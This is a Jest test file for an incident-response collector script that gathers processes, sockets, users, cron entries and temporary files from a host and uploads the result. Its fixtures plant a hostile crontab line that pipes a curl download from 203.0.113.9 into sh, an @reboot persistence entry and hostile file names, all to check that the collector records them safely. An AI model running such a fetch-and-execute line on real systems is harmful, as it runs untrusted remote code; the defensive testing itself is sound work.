import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { VolatileState } from '../../core/analysis/memory/volatile-state';
import { startPutServer } from './put-server';
import { SHELLS, type Shell } from './shells';

const SCRIPT = resolve(__dirname, '../../runbooks/scripts/collect-volatile.sh');

function collect(shell: Shell, env: Record<string, string> = {}): VolatileState {
  const { stdout, stderr, status } = spawnSync(shell.command[0]!, [...shell.command.slice(1), SCRIPT], {
    env: { PATH: shell.path, ...env },
    maxBuffer: 64 * 1024 * 1024,
  });
  expect({ status, stderr: stderr.toString() }).toEqual({ status: 0, stderr: '' });
  return VolatileState.parse(JSON.parse(stdout.toString('utf8')));
}

/** A root with the files a host keeps outside /proc. */
function rootWith(files: Record<string, string>): string {
  const root = mkdtempSync(join(tmpdir(), 'cordon-root-'));
  for (const [path, text] of Object.entries(files)) {
    const at = join(root, path);
    mkdirSync(join(at, '..'), { recursive: true });
    writeFileSync(at, text);
  }
  return root;
}

describe.each(SHELLS)('the volatile state under $name', (shell) => {
  it('lists this very test with its parent, name, executable and command line', () => {
    const { processes = [] } = collect(shell);
    const self = processes.find((each) => each.pid === process.pid);
    expect(self).toMatchObject({ ppid: process.ppid, exe: process.execPath, deleted: false, cwd: process.cwd() });
    const started = Date.parse(self?.startedAt ?? '');
    expect(Math.abs(Date.now() - process.uptime() * 1000 - started)).toBeLessThan(10_000);
  });

  it('finds the process behind a listening socket', async () => {
    const listener = createServer();
    await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
    const { port } = listener.address() as AddressInfo;
    const { sockets = [] } = collect(shell);
    listener.close();
    expect(sockets.filter((each) => each.localPort === port)).toMatchObject([
      { protocol: 'tcp', state: 'LISTEN', localAddress: '127.0.0.1', pid: process.pid },
    ]);
  });

  it('reads users, cron lines and temporary files, and survives hostile names', () => {
    const root = rootWith({
      'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nevil"user:x:1001:1001::/home/e\\x:/bin/sh\n',
      'etc/crontab': '# a comment\n\n* * * * * root curl http://203.0.113.9/"x" | sh\n',
      'var/spool/cron/crontabs/www-data': '@reboot /tmp/.x\n',
      'tmp/pipe|name "quoted"': 'abc',
      'tmp/\u00e9t\u00e9': '12345',
    });
    const state = collect(shell, { CORDON_ROOT: root });
    rmSync(root, { recursive: true });
    expect(state.users?.map((each) => [each.name, each.uid, each.home])).toEqual([
      ['root', 0, '/root'],
      ['evil"user', 1001, '/home/e\\x'],
    ]);
    expect(state.cron).toEqual([
      { file: '/etc/crontab', line: '* * * * * root curl http://203.0.113.9/"x" | sh' },
      { file: '/var/spool/cron/crontabs/www-data', line: '@reboot /tmp/.x' },
    ]);
    const sizes = Object.fromEntries((state.tmp ?? []).map((each) => [each.path, each.size]));
    expect(sizes['/tmp/pipe|name "quoted"']).toBe(3);
    // Bytes outside ASCII are kept one by one: nothing a host names a file can break the JSON.
    expect(sizes[`/tmp/${Buffer.from('\u00e9t\u00e9').toString('latin1')}`]).toBe(5);
  });

  it('says that a running program was deleted from the disk', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'cordon-deleted-'));
    const copy = join(folder, 'sleeper');
    spawnSync('cp', ['/bin/sleep', copy]);
    const child = spawn(copy, ['30']);
    await new Promise((done) => child.once('spawn', done));
    rmSync(folder, { recursive: true });
    const { processes = [] } = collect(shell);
    child.kill();
    expect(processes.find((each) => each.pid === child.pid)).toMatchObject({ exe: copy, deleted: true });
  });

  it('sends the file and a short result to the URLs of its list', async () => {
    const server = await startPutServer();
    const list = `object\t${server.url}/object\nresult\t${server.url}/result\n`;
    server.files.set('/list', Buffer.from(list));
    const env = { PATH: shell.path, CORDON_URL_LIST: `${server.url}/list`, CORDON_RUN_DIR: tmpdir() };
    const child = spawn(shell.command[0]!, [...shell.command.slice(1), SCRIPT], { env });
    const code = await new Promise((done) => child.on('close', done));
    await server.close();
    expect(code).toBe(0);
    const sent = server.received.find((each) => each.path === '/object');
    expect(JSON.parse(server.texts.get('/result') ?? '')).toMatchObject({
      outcome: 'captured',
      bytes: sent?.bytes,
      sha256: sent?.sha256,
    });
    expect(VolatileState.safeParse(JSON.parse(server.texts.get('/object') ?? '')).success).toBe(true);
  });
});
